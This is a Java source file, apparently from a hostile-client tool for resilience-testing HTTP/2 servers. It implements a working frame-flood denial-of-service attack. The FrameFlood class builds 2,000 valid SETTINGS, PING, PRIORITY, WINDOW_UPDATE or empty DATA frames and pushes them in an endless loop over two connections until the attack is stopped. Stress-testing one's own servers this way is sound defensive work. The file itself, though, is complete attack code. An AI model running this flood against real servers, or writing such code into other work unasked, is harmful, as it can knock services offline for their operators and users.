package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Frames;
import dev.coatcheck.cli.hostile.wire.Http2Connection;
import java.io.IOException;
import java.util.Set;
import java.util.function.BiConsumer;

/** Valid HTTP/2 frames that ask for nothing, as fast as they go, on two connections. */
final class FrameFlood implements Attack {

  private static final int CONNECTIONS = 2;
  private static final int FRAMES_AT_ONCE = 2000;

  private final String name;
  private final boolean needsStream;
  private final BiConsumer<Frames, Integer> frame;

  private FrameFlood(String name, boolean needsStream, BiConsumer<Frames, Integer> frame) {
    this.name = name;
    this.needsStream = needsStream;
    this.frame = frame;
  }

  static FrameFlood settings() {
    return new FrameFlood("SETTINGS flood", false, (frames, _) -> frames.settings(0x3, 100));
  }

  static FrameFlood pings() {
    return new FrameFlood("PING flood", false, (frames, _) -> frames.ping());
  }

  static FrameFlood priorities() {
    return new FrameFlood(
        "PRIORITY flood", false, (frames, i) -> frames.priority(2 * i + 1, 2 * i + 3));
  }

  static FrameFlood windowUpdates() {
    return new FrameFlood("WINDOW_UPDATE flood", false, (frames, _) -> frames.windowUpdate(0, 1));
  }

  static FrameFlood emptyData() {
    return new FrameFlood("empty DATA flood", true, (frames, _) -> frames.data(1, new byte[0], 0));
  }

  @Override
  public String name() {
    return name;
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.values());
  }

  @Override
  public void strike(Attacker attacker) throws InterruptedException {
    Frames many = new Frames();
    for (int i = 0; i < FRAMES_AT_ONCE; i++) {
      frame.accept(many, i);
    }
    byte[] bytes = many.toBytes();
    attacker.repeat(CONNECTIONS, () -> flood(attacker, bytes));
  }

  private void flood(Attacker attacker, byte[] bytes) throws IOException {
    Http2Connection connection = attacker.http2();
    if (needsStream) {
      byte[] head = attacker.door().requestWithBody().toBytes();
      connection.send(new Frames().headers(connection.nextStream(), head, Frames.END_HEADERS));
    }
    while (!attacker.isOver()) {
      connection.send(bytes);
    }
  }
}
